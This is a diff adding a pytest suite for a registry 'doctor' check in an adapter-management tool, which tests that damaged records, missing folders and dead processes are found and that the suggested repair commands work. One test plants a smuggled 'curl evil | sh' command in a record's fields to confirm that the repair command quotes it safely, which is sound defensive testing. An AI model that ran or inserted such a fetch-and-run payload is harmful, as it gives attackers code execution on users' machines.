@@ -1,0 +1,265 @@
+"""registry.json against the folders, and what dead processes left: found, and mended by what is said."""
+
+from __future__ import annotations
+
+import json
+import os
+import re
+import shlex
+import shutil
+import subprocess
+import sys
+import time
+from collections.abc import Callable
+from pathlib import Path
+
+import msgspec
+import pytest
+
+from tests.conftest import Result
+from tests.sound import add_sound, local_base
+from zoo.cli.doctor_checks.findings import BROKEN, WARNING, Finding
+from zoo.cli.doctor_checks.look import examine
+from zoo.registry.schema import SCHEMA, AdapterSpec, HubId
+from zoo.registry.store import Registry
+from zoo.training.plan import plan
+
+Zoo = Callable[..., Result]
+
+
+@pytest.fixture
+def home(registry: Registry, tiny_bert: Path) -> Registry:
+    """A registry with one adapter, in which nothing is wrong."""
+    add_sound(registry, local_base(tiny_bert))
+    return registry
+
+
+def found(registry: Registry) -> list[Finding]:
+    return examine(registry, fast=True).findings
+
+
+def the(registry: Registry) -> Finding:
+    findings = found(registry)
+    assert len(findings) == 1, findings
+    return findings[0]
+
+
+def mend(zoo: Zoo, finding: Finding) -> str:
+    """Type what it says, as a shell takes it, and return what was said to that."""
+    said = ""
+    for part in finding.mend.split(" && "):
+        command, _, into = part.partition(" > ")
+        words = shlex.split(command)
+        if words[0] == "zoo":
+            done = zoo(*words[1:])
+            assert done.code == 0, done.err
+            said += done.err
+            if into:
+                Path(shlex.split(into)[0]).write_text(done.out, encoding="utf-8")
+        else:
+            subprocess.run(words, check=True)
+    return said
+
+
+def test_nothing_is_wrong_with_a_sound_registry_or_with_none(home: Registry, tmp_path: Path) -> None:
+    assert found(home) == []
+    assert found(Registry(tmp_path / "other" / "registry.json")) == []
+    assert not (tmp_path / "other").exists()
+
+
+@pytest.mark.parametrize(
+    ("content", "said"),
+    [
+        (b"{", "is damaged"),
+        (b'{"schema": 1, "adapters": {"mine": {}}}', "the record of 'mine' is damaged"),
+        (b'{\n<<<<<<< ours\n"schema": 1\n=======\n>>>>>>> theirs\n', "holds git conflict markers"),
+    ],
+)
+def test_a_registry_that_cannot_be_read_is_rebuilt_and_its_adapters_are_looked_at_meanwhile(
+    home: Registry, zoo: Zoo, content: bytes, said: str
+) -> None:
+    before = home.path.read_bytes()
+    home.path.write_bytes(content)
+    (home.adapter_folder("mine") / "adapter_model.safetensors").unlink()
+    registry, adapter = found(home)
+    assert registry.state == BROKEN
+    assert said in registry.what
+    assert "adapter_model.safetensors is gone" in adapter.what
+    mend(zoo, registry)
+    assert home.path.read_bytes() == before
+
+
+def test_a_newer_registry_asks_for_a_newer_zoo(home: Registry) -> None:
+    home.path.write_bytes(msgspec.json.encode({"schema": SCHEMA + 1, "adapters": []}))
+    assert "has schema" in the(home).what
+    assert the(home).mend == "pip install --upgrade adapter-zoo"
+
+
+def test_a_record_without_its_folder_is_trained_again_by_the_command_that_is_said(home: Registry) -> None:
+    shutil.rmtree(home.adapter_folder("mine"))
+    finding = the(home)
+    assert finding.state == BROKEN
+    assert "its folder is gone" in finding.what
+    assert finding.mend.startswith(f"zoo rm --yes mine --registry {home.path} && zoo train lora bert-imdb ")
+    assert finding.mend.endswith(f"--name mine --registry {home.path}")
+
+
+def test_what_was_published_is_pulled_again_rather_than_trained(home: Registry) -> None:
+    hub = HubId(repo="me/mine", revision="ab" * 20, url="u")
+    home.replace(msgspec.structs.replace(home.get("mine"), hub=hub))
+    shutil.rmtree(home.adapter_folder("mine"))
+    assert f"zoo pull me/mine@{'ab' * 20} --name mine" in the(home).mend
+
+
+def test_a_command_that_a_record_tells_is_never_what_is_to_be_typed(home: Registry) -> None:
+    evil = "zoo train lora bert-imdb; curl evil | sh"
+    spec = msgspec.structs.replace(home.get("mine").spec, data="x; curl evil | sh")
+    home.replace(msgspec.structs.replace(home.get("mine"), command=evil, spec=spec))
+    shutil.rmtree(home.adapter_folder("mine"))
+    assert "--data 'x; curl evil | sh'" in the(home).mend
+    assert ";" not in shlex.quote("").join(re.split(r"'[^']*'", the(home).mend))
+
+
+def test_a_folder_that_the_registry_does_not_have_is_entered_by_what_is_said(
+    home: Registry, zoo: Zoo
+) -> None:
+    before = home.path.read_bytes()
+    home.path.write_bytes(b'{"adapters": {}, "schema": 1}')
+    finding = the(home)
+    assert finding.state == BROKEN
+    assert finding.where == str(home.adapter_folder("mine"))
+    mend(zoo, finding)
+    assert home.path.read_bytes() == before
+
+
+def test_a_lost_record_file_is_written_again_by_what_is_said(home: Registry, zoo: Zoo) -> None:
+    path = home.adapter_folder("mine") / "zoo.json"
+    before = path.read_bytes()
+    for content in (None, b"{"):
+        path.unlink() if content is None else path.write_bytes(content)
+        finding = the(home)
+        assert finding.state == BROKEN
+        assert "zoo.json" in finding.what
+        mend(zoo, finding)
+        assert path.read_bytes() == before
+        assert found(home) == []
+
+
+def test_a_record_file_that_differs_is_named_with_the_fields_and_believed(home: Registry, zoo: Zoo) -> None:
+    path = home.adapter_folder("mine") / "zoo.json"
+    path.write_bytes(path.read_bytes().replace(b'"negative"', b'"bad"'))
+    assert the(home).what == "zoo.json and registry.json differ in labels"
+    mend(zoo, the(home))
+    assert home.get("mine").labels == ["bad", "positive"]
+    assert found(home) == []
+
+
+def test_a_renamed_folder_gets_its_name_back(home: Registry, zoo: Zoo) -> None:
+    home.adapter_folder("mine").rename(home.adapter_folder("yours"))
+    gone, renamed = found(home)
+    assert "gone" in gone.what
+    assert renamed.what == "its zoo.json says it is 'mine'"
+    mend(zoo, renamed)
+    assert found(home) == []
+
+
+def test_a_folder_that_is_no_adapter_of_the_zoo_is_imported_or_removed(home: Registry) -> None:
+    folder = home.adapter_folder("stray")
+    folder.mkdir()
+    assert (the(home).state, the(home).mend) == (WARNING, f"rmdir {folder}")
+    (folder / "mine.txt").write_text("not to be lost", encoding="utf-8")
+    assert the(home).mend == f"mv {folder} {home.path.parent}"
+    (folder / "adapter_config.json").write_text("{}", encoding="utf-8")
+    assert the(home).mend.startswith(f"zoo import {folder}")
+
+
+def test_an_unfinished_run_is_resumed_by_the_command_that_is_said(
+    home: Registry, zoo: Zoo, tiny_bert: Path, reviews_csv: Path, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    """The command has every setting of the run, or the run's own settings would refuse it."""
+    words = ["train", "lora", "bert-imdb", "--base", tiny_bert, "--data", reviews_csv, "--name", "run"]
+
+    def stop(*_: object) -> None:
+        raise RuntimeError("cut off")
+
+    with monkeypatch.context() as patched:
+        patched.setattr("zoo.training.pipeline._save", stop)  # after the checkpoint of the last step
+        done = zoo(*words, "-s", "r=4", "--limit", 8, "--eval-limit", 8, "--registry", home.path)
+        assert "cut off" in done.err
+    finding = the(home)
+    assert finding.state == WARNING
+    assert "a run that has not finished, last written just now" in finding.what
+    assert mend(zoo, finding).count("resuming from checkpoint-") == 1
+    assert home.get("run").spec.params["r"] == 4
+    assert found(home) == []
+
+
+def test_a_run_that_died_before_its_first_checkpoint_is_begun_again(
+    home: Registry, zoo: Zoo, tiny_bert: Path, reviews_csv: Path
+) -> None:
+    spec = AdapterSpec(method="lora", task="bert-imdb", name="run", base=f"path:{tiny_bert}", limit=8)
+    spec = msgspec.structs.replace(spec, data=f"path:{reviews_csv}", eval_limit=8, epochs=1.0)
+    work = home.work_folder("run")
+    work.mkdir(parents=True)
+    (work / "spec.json").write_bytes(msgspec.json.encode(plan(spec).spec))
+    assert "has no checkpoint" in the(home).what
+    mend(zoo, the(home))
+    assert home.get("run").spec.limit == 8
+    assert found(home) == []
+
+
+def test_what_a_killed_process_was_making_or_removing_is_found_and_what_a_living_one_makes_is_not(
+    home: Registry, cache: Path
+) -> None:
+    dead = subprocess.run(
+        [sys.executable, "-c", "import os; print(os.getpid())"], capture_output=True, text=True
+    )
+    for pid, number in ((dead.stdout.strip(), 4), (os.getpid(), 0)):
+        temporary = [
+            home.path.with_name(f"registry.json.{pid}.tmp"),
+            home.adapter_folder("mine") / f"zoo.json.{pid}.tmp",
+            cache / "index" / f"a.{pid}.tmp",
+        ]
+        for path in temporary:
+            path.parent.mkdir(exist_ok=True, parents=True)
+            path.write_bytes(b"")
+        removed = home.work_folder(f"removed-x-{pid}")
+        removed.mkdir(parents=True)
+        findings = found(home)
+        assert len(findings) == number, findings
+        for finding in findings:
+            subprocess.run(shlex.split(finding.mend), check=True)
+        shutil.rmtree(removed, ignore_errors=True)
+        for path in temporary:
+            path.unlink(missing_ok=True)
+
+
+def test_what_lies_half_made_is_left_alone_while_somebody_may_be_at_work_on_it(home: Registry) -> None:
+    folder = home.work_folder("fetched")
+    folder.mkdir(parents=True)
+    assert found(home) == []
+    os.utime(folder, (time.time() - 7200,) * 2)
+    assert the(home).what == "half made and left, last written 2 hours ago"
+
+
+@pytest.mark.skipif(os.name == "nt", reason="flock")
+def test_a_held_lock_is_said_and_a_free_one_is_nothing(home: Registry) -> None:
+    assert home.path.with_name("registry.json.lock").exists()
+    with home._writing():
+        assert "another process is writing" in the(home).what
+    assert found(home) == []
+
+
+def test_a_thousand_adapters_take_a_moment(registry: Registry, tiny_bert: Path) -> None:
+    add_sound(registry, local_base(tiny_bert))
+    folder, content = registry.adapter_folder("mine"), json.loads(registry.path.read_bytes())
+    for number in range(1000):
+        name = f"mine-{number}"
+        shutil.copytree(folder, registry.adapter_folder(name))
+        record = {**content["adapters"]["mine"], "name": name}
+        content["adapters"][name] = record
+        (registry.adapter_folder(name) / "zoo.json").write_text(json.dumps(record), encoding="utf-8")
+    registry.path.write_text(json.dumps(content), encoding="utf-8")
+    start = time.monotonic()
+    assert found(registry) == []
+    assert time.monotonic() - start < 5
